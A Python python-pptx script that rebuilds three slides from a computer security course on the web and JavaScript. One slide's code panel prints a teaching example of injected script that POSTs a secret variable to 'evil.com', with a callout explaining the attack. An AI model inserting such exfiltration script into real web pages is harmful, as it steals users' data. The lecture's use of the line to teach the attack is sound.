


from collections import namedtuple

from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

LEFT, CENTER, RIGHT = PP_ALIGN.LEFT, PP_ALIGN.CENTER, PP_ALIGN.RIGHT
TOP, MIDDLE = MSO_ANCHOR.TOP, MSO_ANCHOR.MIDDLE
RECTANGLE, ROUNDED = MSO_SHAPE.RECTANGLE, MSO_SHAPE.ROUNDED_RECTANGLE
STRAIGHT = MSO_CONNECTOR.STRAIGHT

BLACK, WHITE, GRAY = "000000", "FFFFFF", "595959"
PANEL, POPUP, BUTTON = "EEEEEE", "B7B7B7", "CCCCCC"
BAND_END, CALLOUT, ARROW = "E85C54", "FFAB40", "E69138"
SANS, MONO = "Arial", "Courier New"
INSET = 0.1

Box = namedtuple("Box", "left top width height")
Bullet = namedtuple("Bullet", "indent hanging size symbol")
BULLETS = [Bullet(0.5, 0.38, 18, "●"), Bullet(1, 0.35, 14, "○")]


def color(value):
    return RGBColor.from_string(value)


def inches(box):
    return [Inches(length) for length in box]


def right_middle(box):
    return box.left + box.width, box.top + box.height / 2


def left_middle(box):
    return box.left, box.top + box.height / 2


def add_span(para, text, size, ink=BLACK, font=SANS, bold=False, italic=False):
    span = para.add_run()
    span.text = text
    span.font.name = font
    span.font.size = Pt(size)
    span.font.bold = bold
    span.font.italic = italic
    span.font.color.rgb = color(ink)


def prepare_frame(shape, anchor, top_inset=INSET):
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.margin_left = frame.margin_right = frame.margin_bottom = Inches(INSET)
    frame.margin_top = Inches(top_inset)
    return frame


def write_lines(frame, lines, size, align=LEFT, gap=0, **style):
    for index, line in enumerate(lines):
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        para.alignment = align
        if index and gap:
            para.space_before = Pt(gap)
        add_span(para, line, size, **style)


def add_label(page, box, text, size=14, align=CENTER, anchor=TOP, **style):
    label = page.shapes.add_textbox(*inches(box))
    write_lines(prepare_frame(label, anchor), [text], size, align, **style)


def add_panel(page, box, fill=PANEL, border=GRAY, weight=0.75, outline=RECTANGLE):
    panel = page.shapes.add_shape(outline, *inches(box))
    panel.shadow.inherit = False
    panel.fill.solid()
    panel.fill.fore_color.rgb = color(fill)
    panel.line.color.rgb = color(border)
    panel.line.width = Pt(weight)
    return panel


def add_arrow(page, start, end, ink=ARROW, weight=1.5, tips=("tailEnd",)):
    arrow = page.shapes.add_connector(STRAIGHT, *inches(start + end))
    arrow.line.color.rgb = color(ink)
    arrow.line.width = Pt(weight)
    for tip in tips:
        etree.SubElement(arrow.get_or_add_ln(), qn(f"a:{tip}"), type="triangle")
    etree.SubElement(arrow._element.spPr, qn("a:effectLst"))


def add_band(page, box):
    band = page.shapes.add_shape(RECTANGLE, *inches(box))
    band.shadow.inherit = False
    band.line.fill.background()
    band.fill.gradient()
    band.fill.gradient_angle = 0
    for stop, position, ink in zip(band.fill.gradient_stops, (0, 1), (BLACK, BAND_END)):
        stop.position = position
        stop.color.rgb = color(ink)
    write_lines(prepare_frame(band, MIDDLE), ["Computer Science 161"], 6, ink=WHITE, bold=True)
    term_width = 1.66
    term = Box(box.left + box.width - term_width, box.top, term_width, box.height)
    add_label(page, term, "Fall 2022", 6, RIGHT, MIDDLE, ink=WHITE, bold=True)


def add_page(deck, title, number):
    page = deck.slides.add_slide(deck.slide_layouts[6])
    add_band(page, Box(0, 1.11, 10, 0.12))
    add_label(page, Box(0.11, 0.3, 9.32, 0.63), title, 25.2, LEFT)
    add_label(page, Box(9.27, 5.1, 0.6, 0.43), str(number), 10, RIGHT, MIDDLE, ink=GRAY)
    return page


def add_bullets(page, items, height=0.63):
    body = page.shapes.add_textbox(*inches(Box(0.22, 1.36, 9.32, height)))
    frame = prepare_frame(body, TOP)
    for index, (level, spans) in enumerate(items):
        bullet = BULLETS[level]
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        para.level = level
        para.line_spacing = 1.15
        properties = para._p.get_or_add_pPr()
        properties.set("marL", str(Inches(bullet.indent)))
        properties.set("indent", str(-Inches(bullet.hanging)))
        tint = etree.SubElement(properties, qn("a:buClr"))
        etree.SubElement(tint, qn("a:srgbClr"), val=BLACK)
        etree.SubElement(properties, qn("a:buFont"), typeface=SANS)
        etree.SubElement(properties, qn("a:buChar"), char=bullet.symbol)
        for text, style in spans:
            add_span(para, text, bullet.size, **style)


def add_code(page, box, lines):
    panel = add_panel(page, box)
    write_lines(prepare_frame(panel, MIDDLE), lines, 12, gap=14, font=MONO, bold=True)


def add_callout(page, box, text):
    callout = add_panel(page, box, CALLOUT, BLACK, 1.5)
    write_lines(prepare_frame(callout, TOP), [text], 14, CENTER)


def add_nodes(page, name, count, left, top):
    boxes = [Box(left, top + 0.735 * row, 1.21, 0.58) for row in range(count)]
    for box in boxes:
        node = add_panel(page, box)
        write_lines(prepare_frame(node, MIDDLE), [name], 14, CENTER)
    return boxes


def add_network(page, box):
    browsers = add_nodes(page, "Browser", 3, box.left, box.top)
    servers = add_nodes(page, "Server", 2, box.left + box.width - 1.21, box.top + 0.36)
    both = ("headEnd", "tailEnd")
    links = [(0, 0, both), (1, 1, both[:1]), (2, 1, both)]
    for browser, server, tips in links:
        start, end = right_middle(browsers[browser]), left_middle(servers[server])
        add_arrow(page, start, end, GRAY, 0.75, tips)
    caption = Box(box.left + 1.21, box.top + 1.67, box.width - 2.42, 0.44)
    add_label(page, caption, "The Internet")


def add_webpage(page, box):
    add_panel(page, box)
    add_label(page, Box(box.left, box.top - 0.38, 4.13, 0.44), "Webpage")
    popup = Box(box.left + 1.2, box.top + 0.47, 1.73, 0.82)
    message = add_panel(page, popup, POPUP)
    write_lines(prepare_frame(message, TOP, 0.06), ["Happy Birthday!"], 14, CENTER)
    button_box = Box(popup.left + 0.57, popup.top + 0.36, 0.6, 0.36)
    button = add_panel(page, button_box, BUTTON, outline=ROUNDED)
    write_lines(prepare_frame(button, MIDDLE), ["OK"], 14, CENTER)
    return popup


def build_web_page(deck):
    page = add_page(deck, "What’s the Web?", 14)
    plain, bold, italic = {}, {"bold": True}, {"italic": True}
    add_bullets(page, [
        (0, [("Web (World Wide Web)", bold), (": A collection of data and services", plain)]),
        (1, [("Data and services are provided by ", plain), ("web servers", bold)]),
        (1, [("Data and services are accessed using ", plain), ("web browsers", bold),
             (" (e.g. Cobalt, Firefox)", plain)]),
        (0, [("The web is not the Internet", plain)]),
        (1, [("The Internet describes ", plain), ("how", italic),
             (" data is transported between servers and browsers", plain)]),
        (1, [("We will study the Internet later in the networking unit", plain)]),
    ], 2.23)
    add_network(page, Box(1.22, 3.39, 7.1, 2.05))


def build_popup_page(deck):
    page = add_page(deck, "Features of JavaScript", 46)
    add_bullets(page, [(0, [("Create a pop-up message", {})])])
    add_code(page, Box(0.63, 2.31, 4.53, 0.75), ['<script>alert("Happy Birthday!")</script>'])
    add_label(page, Box(0.64, 1.93, 4.13, 0.44), "HTML (with embedded JavaScript)")
    popup = add_webpage(page, Box(0.64, 3.66, 4.43, 1.76))
    note = Box(5.77, 4.04, 3.43, 0.91)
    start = left_middle(note)
    add_arrow(page, start, (popup.left + popup.width + 0.05, start[1]))
    add_callout(page, note, "When the browser loads this HTML, it will run the embedded "
                            "JavaScript and cause a pop-up to appear.")


def build_request_page(deck):
    page = add_page(deck, "Features of JavaScript", 47)
    add_bullets(page, [(0, [("Make HTTP requests", {})])])
    code = Box(0.5, 2.36, 8.28, 1.21)
    add_code(page, code, [
        "<script>int secret = 42;</script>",
        "...",
        "<script>fetch('https://evil.com/receive',{method:'POST', body: secret})</script>",
    ])
    add_label(page, Box(code.left, code.top - 0.37, code.width, 0.44),
              "HTML (with embedded JavaScript)")
    callouts = [
        (4.35, 4.25, 5.59, 3.52, "If the attacker somehow adds this JavaScript, the browser will "
                                 "send a POST request to the attacker’s server with the secret."),
        (0.77, 2.62, 1.93, 2.76, "Suppose the server returns some HTML with a secret "
                                 "JavaScript variable."),
    ]
    for left, width, target_x, target_y, text in callouts:
        note = Box(left, 4.11, width, 0.91)
        add_arrow(page, (target_x, note.top + 0.4), (target_x, target_y))
        add_callout(page, note, text)


def main():
    deck = Presentation()
    deck.slide_width = Inches(10)
    deck.slide_height = Inches(10) * 9 // 16
    build_web_page(deck)
    build_popup_page(deck)
    build_request_page(deck)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
